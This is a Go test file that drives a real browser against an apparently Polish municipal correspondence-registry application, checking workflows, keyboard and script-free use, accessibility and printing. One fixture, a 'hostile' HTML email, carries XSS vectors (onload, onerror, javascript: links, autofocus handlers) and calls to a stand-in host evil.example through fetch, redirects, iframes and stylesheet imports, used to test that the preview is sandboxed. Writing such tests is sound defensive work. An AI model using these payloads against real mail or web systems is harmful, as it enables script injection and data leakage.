package testenv_test

import (
	"fmt"
	"net/smtp"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"kancelaria/testenv"
)

// hostile is a letter that would like to call home and run.
const hostile = `From: Ktos <ktos@poczta.example>
To: %s
Subject: Wniosek o zezwolenie na wycinke drzewa %d
Message-ID: <zly%[2]d@poczta.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/r"><link rel="stylesheet" href="http://evil.example/s.css">
<style>@import url(http://evil.example/i.css); body{background:url(http://evil.example/b.png)}</style></head>
<body onload="alert(1)"><p>Dzien dobry, prosze o zezwolenie.</p><script>alert(2); fetch("http://evil.example/f"); top.location="http://evil.example/t"</script>
<img src="http://evil.example/p.png"><img src="x" onerror="alert(3)"><iframe src="http://evil.example/q"></iframe><svg><script>alert(4)</script></svg>
<a href="javascript:alert(5)">kliknij</a><form action="http://evil.example/x"><button autofocus onfocus="alert(6)">ok</button></form></body></html>
`

// The counter as people use it, in a real browser on the real daemon.
func TestTheCounterInABrowser(t *testing.T) {
	h := testenv.Daemon(t, testenv.Options{})
	setPasswords(t, h, "pk1", "os1")
	for i := range 4 {
		letter := strings.ReplaceAll(fmt.Sprintf(hostile, h.Mailbox, i), "\n", "\r\n")
		if err := smtp.SendMail(h.SMTP, nil, "ktos@poczta.example", []string{h.Mailbox}, []byte(letter)); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(h.Drop, "SKM_C250i26112308150.pdf"), scannedPage(t, "Podanie"), 0o644); err != nil {
		t.Fatal(err)
	}
	h.WaitFor(t, 5)
	var scan string
	for _, e := range h.List(t) {
		if e.Door == "folder" {
			scan = e.Number
		}
	}
	c := startChrome(t, h)

	t.Run("the front desk's morning", func(t *testing.T) {
		b := c.open(t)
		b.logIn("pk1")
		b.goTo("/queue")
		b.sees("#scans + .entries", scan)
		b.picture("queue")
		b.press("#scans + .entries a")
		b.act("completed", map[string]string{"title": "Wniosek o zezwolenie na usunięcie lipy", "sender.name": "Mieszkaniec", "sender_ref": "7/2026"})
		b.sees(".done", "Uzupełniono")
		b.act("classified", map[string]string{"class": "6131", "department": "OS", "clerk": "os1"})
		b.sees(".done", "Zapisano")

		os1 := c.open(t)
		os1.logIn("os1")
		os1.sees("#list-0 + form", scan)
		os1.picture("mine")
		os1.goTo("/entries/" + scan)
		os1.picture("entry")
		os1.act("accepted", nil)
		os1.sees(".done", "Przyjęto")
		os1.sees(".facts", "OS.6131.1.2026")
		os1.goTo("/cases/OS.6131.1.2026")
		os1.sees("main", "sprawa w toku")
		if e := h.Show(t, scan); e.Status != "accepted" || e.Clerk != "os1" || e.Case != "OS.6131.1.2026" {
			t.Errorf("the book says %s, %s, %s", e.Status, e.Clerk, e.Case)
		}
	})

	t.Run("keyboard only", func(t *testing.T) {
		b := c.open(t)
		b.run(chromedp.Navigate(b.base + "/"))
		b.until("document.readyState === 'complete' && document.activeElement?.id === 'login'") // it has the focus by itself
		b.run(chromedp.KeyEvent("os1" + kb.Tab))
		b.until("document.activeElement?.id === 'password'")
		b.run(chromedp.KeyEvent(counterPassword + kb.Enter))
		b.sees("h1", "Moje pisma")
		b.until("document.readyState === 'complete'")
		b.run(chromedp.KeyEvent("j"), chromedp.KeyEvent("x"), chromedp.KeyEvent("j"), chromedp.KeyEvent("x"))
		chosen := eval[int](b, "document.querySelectorAll('[name=entry]:checked').length")
		outline := eval[string](b, "getComputedStyle(document.activeElement).outlineStyle")
		if chosen != 2 || outline == "none" {
			t.Errorf("%d entries chosen, the focus is shown by %q", chosen, outline)
		}
		b.run(chromedp.KeyEvent("a"))
		b.sees(".done", "Przyjęto: 2")
	})

	t.Run("without scripts", func(t *testing.T) {
		b := c.open(t)
		call(b, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true})
		b.goTo("/")
		b.run(chromedp.SendKeys(chromedp.CSS("#login"), "os1"), chromedp.SendKeys(chromedp.CSS("#password"), counterPassword), chromedp.Submit(chromedp.CSS("#password")),
			chromedp.WaitVisible(chromedp.CSS("[name=entry]")), chromedp.Click(chromedp.CSS("[name=entry]")), chromedp.Click(chromedp.CSS(".bar button")),
			chromedp.WaitVisible(chromedp.CSS(".done")))
	})

	t.Run("a hostile letter", func(t *testing.T) {
		b := c.open(t)
		b.logIn("os1")
		b.goTo("/entries/RPW-000001-2026")
		b.run(chromedp.ScrollIntoView(chromedp.CSS("iframe.frame")))
		b.until("performance.getEntriesByType('resource').some(r => r.name.includes('/preview'))")
		b.picture("hostile")
		if got := b.outside(); len(got) > 0 {
			t.Errorf("the letter reached %q", got)
		}
		reach := eval[string](b, "(() => { try { return String(document.querySelector('iframe.frame').contentDocument) } catch (e) { return 'apart' } })()")
		if reach != "null" && reach != "apart" {
			t.Errorf("page and letter are not apart: %s", reach)
		}
	})

	t.Run("the session ends in the middle of a form", func(t *testing.T) {
		b := c.open(t)
		b.logIn("os1")
		b.goTo("/entries/" + scan)
		call(b, network.ClearBrowserCookies, cdp.Empty{})
		b.act("noted", map[string]string{"text": "Dzwonił nadawca, długa historia."})
		b.sees("main", "tekst jest zachowany")
		b.run(chromedp.SendKeys(chromedp.CSS("#login"), "os1"), chromedp.SendKeys(chromedp.CSS("#password"), counterPassword+kb.Enter))
		b.sees("main", "Dzwonił nadawca, długa historia.")
		b.press("main form button")
		b.sees(".done", "Zapisano notatkę")
		b.sees(".timeline", "Dzwonił nadawca, długa historia.")
	})

	t.Run("a new entry appears by itself", func(t *testing.T) {
		b := c.open(t)
		b.logIn("os1")
		eval[bool](b, "(document.activeElement.blur(), true)")
		letter := strings.ReplaceAll(fmt.Sprintf(hostile, h.Mailbox, 77), "\n", "\r\n")
		if err := smtp.SendMail(h.SMTP, nil, "ktos@poczta.example", []string{h.Mailbox}, []byte(letter)); err != nil {
			t.Fatal(err)
		}
		b.sees("#lists", "RPW-000006-2026")
		b.sees("#news[aria-live=polite]", "Wpłynęło nowe pismo")
	})

	t.Run("the register on paper", func(t *testing.T) {
		b := c.open(t)
		b.logIn("pk1")
		b.goTo("/book/print?register=RPW&year=2026")
		pdf, err := chromedp.Run(b.ctx, chromedp.PrintToPDF(func(p *page.PrintToPDFParams) { p.PreferCSSPageSize = new(true) }))
		if err != nil {
			t.Fatal(err)
		}
		text := rowsOf(t, pdf)
		for i := 1; i <= 6; i++ {
			if n := fmt.Sprintf("RPW-%06d-2026", i); !strings.Contains(text, n) {
				t.Errorf("%s is not on paper:\n%s", n, text)
			}
		}
		for _, want := range []string{"Suma strony: 6 pism", "brak danych", "Wniosek o zezwolenie na usunięcie lipy"} {
			if !strings.Contains(strings.Join(strings.Fields(text), " "), want) {
				t.Errorf("the paper does not say %q:\n%s", want, text)
			}
		}
		if strings.Contains(text, "Wyloguj") {
			t.Error("the navigation is printed")
		}
	})

	screens := []string{
		"/", "/queue", "/hand", "/book", "/book/print", "/search?q=drzewa", "/cases", "/cases/OS.6131.1.2026", "/rules", "/absences", "/status", "/accessibility",
		"/entries/" + scan, "/entries/RPW-000001-2026", "/entries/RPW-000001-2026/explanation", "/nothing",
	}
	t.Run("nobody is kept out", func(t *testing.T) {
		b := c.open(t)
		b.goTo("/login")
		b.clean("/login")
		b.logIn("pk1")
		for _, path := range screens {
			b.goTo(path)
			eval[bool](b, "(document.querySelectorAll('details').forEach(d => d.open = true), true)")
			b.clean(path)
		}
		b.media("prefers-color-scheme", "dark")
		for _, path := range []string{"/", "/queue", "/entries/RPW-000001-2026", "/status"} {
			b.goTo(path)
			b.clean(path + " in the dark")
		}
	})

	t.Run("at 200 % and on narrow screens", func(t *testing.T) {
		b := c.open(t)
		b.logIn("pk1")
		for _, width := range []int64{640, 320} {
			b.run(chromedp.EmulateViewport(width, 512))
			for _, path := range screens {
				if path == "/book/print" || path == "/rules" || path == "/status" || path == "/absences" {
					continue // tables of data, which WCAG 1.4.10 lets scroll
				}
				b.goTo(path)
				over := eval[int](b, "document.documentElement.scrollWidth - innerWidth")
				if over > 0 {
					t.Errorf("%s is %d pixels wider than a screen of %d", path, over, width)
				}
			}
		}
	})

	t.Run("forced colours", func(t *testing.T) {
		b := c.open(t)
		b.media("forced-colors", "active")
		b.logIn("pk1")
		b.goTo("/queue")
		b.picture("forced-colours")
		shown := eval[string](b, "getComputedStyle(document.querySelector('nav a[aria-current]')).borderBottomStyle")
		if shown != "solid" {
			t.Errorf("where one is, is told by colour alone: %q", shown)
		}
	})
}
